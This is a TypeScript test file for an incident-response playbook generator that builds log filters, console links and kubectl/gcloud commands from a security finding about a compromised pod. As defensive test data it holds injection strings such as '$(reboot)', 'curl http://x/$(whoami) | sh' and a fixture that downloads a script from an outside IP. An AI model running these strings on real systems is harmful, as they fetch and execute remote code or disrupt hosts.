import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, test } from 'node:test';
import fc from 'fast-check';
import { toIncident } from '../../shared/finding/incident.js';
import type { Incident } from '../../shared/finding/types.js';
import {
  buildPlaybookArtefacts,
  INSTANCE_ID_PLACEHOLDER,
  logsExplorerUrl,
  quoteLogValue,
  shellJoin,
  withTimeWindow,
} from '../../shared/enrich/playbook.js';
import { SECRET, v1, type NotificationLike } from './finding-helpers.js';

function incident(mutate?: (n: NotificationLike) => void): Incident {
  const n = v1();
  mutate?.(n);
  const r = toIncident(n);
  if (!r.ok) throw new Error(r.error.message);
  return r.incident;
}

function setPath(path: string): (n: NotificationLike) => void {
  return (n) => {
    n.finding.processes[0]!.binary['path'] = path;
    n.finding.sourceProperties['Process_Binary_Fullpath'] = path;
  };
}

/** Runs `printf '%s\0' <shell words>` in a real POSIX shell and returns the words it saw. */
function shellWords(shellLine: string): string[] {
  const out = execFileSync('/bin/sh', ['-c', `printf '%s\\000' ${shellLine}`], { encoding: 'utf8' });
  const words = out.split('\0');
  words.pop();
  return words;
}

const POD = 'checkout-7d9f8b6c5d-q2x8z';

describe('step 4 filters', () => {
  const a = buildPlaybookArtefacts(incident());

  test('pod logs filter, exactly as the playbook writes it', () => {
    assert.equal(
      a.filters.pod.filter,
      [
        'resource.type="k8s_container"',
        'resource.labels.project_id="acme-payments-prod"',
        'resource.labels.location="us-central1"',
        'resource.labels.cluster_name="payments"',
        'resource.labels.namespace_name="payments"',
        `resource.labels.pod_name="${POD}"`,
      ].join('\n'),
    );
    assert.equal(a.filters.pod.runnable, true);
  });

  test('cluster audit logs filter', () => {
    assert.equal(
      a.filters.audit.filter,
      [
        'logName="projects/acme-payments-prod/logs/cloudaudit.googleapis.com%2Factivity"',
        'resource.type="k8s_cluster"',
        'resource.labels.project_id="acme-payments-prod"',
        'resource.labels.location="us-central1"',
        'resource.labels.cluster_name="payments"',
        `"${POD}"`,
      ].join('\n'),
    );
  });

  test('node filter: placeholder until the instance id is known', () => {
    assert.equal(a.filters.node.filter, `resource.type="gce_instance"\nresource.labels.instance_id="${INSTANCE_ID_PLACEHOLDER}"`);
    assert.equal(a.filters.node.runnable, false);
    assert.deepEqual(a.filters.node.missing, ['instance_id']);
    const b = buildPlaybookArtefacts(incident(), { instanceId: '4432115517356273618' });
    assert.equal(b.filters.node.filter, 'resource.type="gce_instance"\nresource.labels.instance_id="4432115517356273618"');
    assert.equal(b.filters.node.runnable, true);
    assert.equal(b.nodeInstanceId, '4432115517356273618');
  });

  test('window: 30 minutes either side by default, configurable', () => {
    assert.deepEqual(a.window, { start: '2026-11-27T08:44:02.113Z', end: '2026-11-27T09:44:02.113Z', beforeMinutes: 30, afterMinutes: 30 });
    const b = buildPlaybookArtefacts(incident(), { windowBeforeMinutes: 60, windowAfterMinutes: 5 });
    assert.equal(b.window.start, '2026-11-27T08:14:02.113Z');
    assert.equal(b.window.end, '2026-11-27T09:19:02.113Z');
    assert.equal(b.filters.pod.filterWithWindow, `${b.filters.pod.filter}\ntimestamp>="2026-11-27T08:14:02.113Z"\ntimestamp<="2026-11-27T09:19:02.113Z"`);
  });

  test('withTimeWindow accepts strings and Dates and refuses invalid times', () => {
    assert.equal(withTimeWindow('x="y"', new Date(0), '1970-01-01T00:01:00Z'), 'x="y"\ntimestamp>="1970-01-01T00:00:00.000Z"\ntimestamp<="1970-01-01T00:01:00.000Z"');
    assert.throws(() => withTimeWindow('x', 'nope', new Date()), /start is not a valid time/);
  });

  test('Logs Explorer deep links carry the filter, the window and the project', () => {
    const url = a.filters.pod.url;
    const m = /^https:\/\/console\.cloud\.google\.com\/logs\/query;query=([^;]+);startTime=([^;]+);endTime=([^?]+)\?project=(.+)$/.exec(url);
    assert.ok(m, url);
    assert.equal(decodeURIComponent(m[1]!), a.filters.pod.filter);
    assert.equal(m[2], '2026-11-27T08:44:02.113Z');
    assert.equal(m[3], '2026-11-27T09:44:02.113Z');
    assert.equal(m[4], 'acme-payments-prod');
    assert.doesNotMatch(m[1]!, /[;()'!*\n ]/, 'matrix-parameter-safe encoding');
    // The literal %2F of the audit logName survives the round trip.
    const audit = /query=([^;]+);/.exec(a.filters.audit.url)?.[1] ?? '';
    assert.ok(decodeURIComponent(audit).includes('cloudaudit.googleapis.com%2Factivity'));
    assert.ok(logsExplorerUrl('a', 'p', new Date(0), new Date(1)).endsWith('?project=p'));
  });

  test('values are quoted for the Logging query language', () => {
    assert.equal(quoteLogValue('a"b\\c'), '"a\\"b\\\\c"');
    assert.equal(quoteLogValue('x\ny'), '"x\\ny"', 'a value cannot start a new filter line');
    const hostile = buildPlaybookArtefacts(incident((n) => {
      n.finding.kubernetes.pods[0]!['name'] = 'p" OR logName:"x';
    }));
    assert.ok(hostile.filters.pod.filter.endsWith('resource.labels.pod_name="p\\" OR logName:\\"x"'));
    assert.equal(hostile.filters.pod.filter.split('\n').length, 6);
  });
});

describe('links', () => {
  const a = buildPlaybookArtefacts(incident(), { owner: { kind: 'Deployment', name: 'checkout' } });
  test('console links for cluster, node, VM instance, pod and workload', () => {
    assert.equal(a.links.cluster?.url, 'https://console.cloud.google.com/kubernetes/clusters/details/us-central1/payments/details?project=acme-payments-prod');
    assert.equal(a.links.node?.url, 'https://console.cloud.google.com/kubernetes/node/us-central1/payments/gke-payments-default-pool-1a2b3c4d-x7k9/details?project=acme-payments-prod');
    assert.equal(a.links.nodeInstance?.url, 'https://console.cloud.google.com/compute/instancesDetail/zones/us-central1-b/instances/gke-payments-default-pool-1a2b3c4d-x7k9?project=acme-payments-prod');
    assert.equal(a.links.pod?.url, `https://console.cloud.google.com/kubernetes/pod/us-central1/payments/payments/${POD}/details?project=acme-payments-prod`);
    assert.equal(a.links.workload?.url, 'https://console.cloud.google.com/kubernetes/deployment/us-central1/payments/payments/checkout/overview?project=acme-payments-prod');
    const noOwner = buildPlaybookArtefacts(incident());
    assert.equal(noOwner.links.workload?.url, 'https://console.cloud.google.com/kubernetes/workload/overview?project=acme-payments-prod');
  });

  test('VirusTotal and MITRE ATT&CK links', () => {
    assert.equal(a.links.virusTotal?.url, 'https://www.virustotal.com/gui/file/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08');
    assert.deepEqual(a.links.mitre, [
      { title: 'T1105 INGRESS_TOOL_TRANSFER', url: 'https://attack.mitre.org/techniques/T1105/' },
      { title: 'T1106 NATIVE_API', url: 'https://attack.mitre.org/techniques/T1106/' },
    ]);
  });

  test('a Cloud Run finding: no cluster links or credentials, placeholders in the filters', () => {
    const b = buildPlaybookArtefacts(incident((n) => {
      n.finding['resourceName'] = '//run.googleapis.com/projects/acme-payments-prod/locations/us-central1/services/api';
    }));
    assert.equal(b.links.cluster, undefined);
    assert.equal(b.commands.getCredentials, undefined);
    assert.equal(b.filters.pod.runnable, false);
    assert.deepEqual(b.filters.pod.missing, ['location', 'cluster']);
    assert.ok(b.unavailable.some((u) => u.item === 'console links'));
  });
});

describe('step 5 commands', () => {
  test('gcloud get-credentials: --region for a regional cluster, --zone for a zonal one', () => {
    const a = buildPlaybookArtefacts(incident());
    assert.deepEqual(a.commands.getCredentials?.argv, ['gcloud', 'container', 'clusters', 'get-credentials', 'payments', '--region', 'us-central1', '--project', 'acme-payments-prod']);
    assert.equal(a.commands.getCredentials?.shell, 'gcloud container clusters get-credentials payments --region us-central1 --project acme-payments-prod');
    const z = buildPlaybookArtefacts(incident((n) => {
      n.finding['resourceName'] = '//container.googleapis.com/projects/acme-payments-prod/zones/us-central1-b/clusters/payments';
    }));
    assert.deepEqual(z.commands.getCredentials?.argv.slice(5, 7), ['--zone', 'us-central1-b']);
  });

  test('kubectl cp and kubectl exec as the playbook writes them', () => {
    const a = buildPlaybookArtefacts(incident());
    assert.deepEqual(a.commands.copyBinary?.argv, ['kubectl', 'cp', `payments/${POD}:/usr/bin/curl`, '-c', 'checkout', 'scc-evidence-a6e3b2c9f0d14e8f9b7c5a4d3e2f1a0b.bin']);
    assert.equal(a.commands.copyBinary?.shell, `kubectl cp payments/${POD}:/usr/bin/curl -c checkout scc-evidence-a6e3b2c9f0d14e8f9b7c5a4d3e2f1a0b.bin`);
    assert.deepEqual(a.commands.shell?.argv, ['kubectl', 'exec', '--namespace=payments', '-ti', POD, '-c', 'checkout', '--', '/bin/sh']);
    // Plain words stay as a person writes them; quoting is only where the shell needs it.
    assert.equal(a.commands.shell?.shell, `kubectl exec --namespace=payments -ti ${POD} -c checkout -- /bin/sh`);
    assert.equal(shellJoin(['echo', "it's", '$HOME', 'a b', '']), `echo 'it'\\''s' '$HOME' 'a b' ''`);
    assert.equal(shellJoin(['X=1', 'Y=2']), `'X=1' Y=2`, 'a first word with = would be an assignment');
    assert.deepEqual(a.commands.verifyCopy?.argv, ['sha256sum', 'scc-evidence-a6e3b2c9f0d14e8f9b7c5a4d3e2f1a0b.bin']);
    assert.match(a.commands.verifyCopy?.note ?? '', /9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08/);
    assert.match(a.commands.copyBinary?.note ?? '', /tar inside the compromised container/);
    for (const c of [a.commands.getCredentials, a.commands.copyBinary, a.commands.shell, a.commands.verifyCopy]) {
      assert.deepEqual(shellWords(c!.shell), c!.argv, 'a real shell sees exactly the argv');
    }
  });

  const dir = mkdtempSync(join(tmpdir(), 'playbook-quote-'));
  after(() => rmSync(dir, { recursive: true, force: true }));

  test('a hostile binary path comes out inert: a real sh sees it unchanged and runs nothing', () => {
    const canary = join(dir, 'pwned');
    const hostile = [
      '/tmp/$(reboot);x',
      `/tmp/$(touch ${canary})`,
      `/tmp/\`touch ${canary}\``,
      `/tmp/x; touch ${canary}`,
      `/tmp/it's "quoted" \\ $HOME ~ * ? [a] {b,c} # ! & | < > ( )`,
      '/tmp/tab\there',
      "/tmp/'$(id)'!",
      '/tmp/-rf --no-preserve-root',
      '/tmp/ünïcödé/файл',
    ];
    for (const path of hostile) {
      const a = buildPlaybookArtefacts(incident(setPath(path)));
      const cp = a.commands.copyBinary;
      assert.ok(cp, path);
      assert.equal(cp.argv[2], `payments/${POD}:${path}`);
      assert.deepEqual(shellWords(cp.shell), cp.argv, path);
      const args = a.sections[0]!.items.find((i) => i.label === 'Program binary');
      assert.equal(args?.value, path);
    }
    assert.equal(existsSync(canary), false, 'no command substitution ran');
    // A line break makes the path unusable (one check with the evidence path): no command at all.
    assert.equal(buildPlaybookArtefacts(incident(setPath('/tmp/new\nline'))).commands.copyBinary, undefined);
  });

  test('arguments from the finding are shown shell-quoted and round-trip too', () => {
    const args = ['/bin/sh', '-c', `curl http://x/$(whoami) | sh; touch ${join(dir, 'pwned2')}`];
    const i = incident((n) => (n.finding.processes[0]!.args = args));
    const a = buildPlaybookArtefacts(i);
    const shown = a.sections[0]!.items.find((it) => it.label === 'Arguments')!.value;
    assert.deepEqual(shellWords(shown), args);
    assert.equal(existsSync(join(dir, 'pwned2')), false);
  });

  test('property: any argv (no NUL) survives shellJoin through /bin/sh', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary', minLength: 0, maxLength: 12 }).filter((s) => !s.includes('\0')), { minLength: 1, maxLength: 4 }), (argv) => {
        assert.deepEqual(shellWords(shellJoin(argv)), argv);
      }),
      { numRuns: 60 },
    );
    assert.equal(existsSync(join(dir, 'pwned')), false);
  });

  test('an unusable path (NUL, relative, ..) gives no kubectl cp, with the reason', () => {
    for (const [path, reason] of [['/tmp/a\u0000b', /NUL byte/], ['tmp/x', /not absolute/], ['/a/../b', /'\.\.' segment/]] as const) {
      const a = buildPlaybookArtefacts(incident(setPath(path)));
      assert.equal(a.commands.copyBinary, undefined, path);
      assert.match(a.unavailable.find((u) => u.item === 'kubectl cp')?.reason ?? '', reason);
      assert.ok(a.commands.shell, 'the shell command does not depend on the path');
    }
  });

  test('an invalid pod name gives no kubectl command at all', () => {
    const a = buildPlaybookArtefacts(incident((n) => (n.finding.kubernetes.pods[0]!['name'] = '$(reboot)')));
    assert.equal(a.commands.copyBinary, undefined);
    assert.equal(a.commands.shell, undefined);
    assert.match(a.unavailable.find((u) => u.item === 'kubectl cp / kubectl exec')?.reason ?? '', /pod is not a valid Kubernetes name/);
  });
});

describe('sections and secrets', () => {
  test('six playbook steps with every step-1 field and its source', () => {
    const a = buildPlaybookArtefacts(incident());
    assert.deepEqual(a.sections.map((s) => s.step), [1, 2, 3, 4, 5, 6]);
    const step1 = Object.fromEntries(a.sections[0]!.items.map((i) => [i.label, i]));
    assert.equal(step1['Program binary']?.value, '/usr/bin/curl');
    assert.equal(step1['Program binary']?.source, 'finding.processes[0].binary.path');
    assert.equal(step1['Arguments']?.value, '/usr/bin/curl -s http://203.0.113.50/x.sh -o /tmp/x');
    assert.equal(step1['Container']?.value, 'checkout');
    assert.equal(step1['Container URI']?.value, 'us-docker.pkg.dev/acme-payments-prod/apps/checkout:2.14.1');
    assert.equal(step1['Resource full name']?.value, '//container.googleapis.com/projects/acme-payments-prod/locations/us-central1/clusters/payments');
    assert.equal(step1['Node (VM_Instance_Name)']?.value, 'gke-payments-default-pool-1a2b3c4d-x7k9');
    assert.equal(step1['VirusTotal indicator']?.url, 'https://www.virustotal.com/gui/file/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08');
    assert.equal(a.sections[3]!.items.length, 3);
    assert.equal(a.sections[3]!.items[2]!.note, 'fill in: instance_id');
    assert.equal(a.sections[4]!.items.filter((i) => i.kind === 'command').length, 4);
    assert.equal(a.sections[5]!.items.length, 3);
  });

  test('the planted secret appears in no artefact', () => {
    const i = incident((n) => n.finding.processes[0]!.args.push(`--key=${SECRET}`));
    const text = JSON.stringify(buildPlaybookArtefacts(i, { instanceId: '1' }));
    assert.ok(!text.includes(SECRET));
  });
});
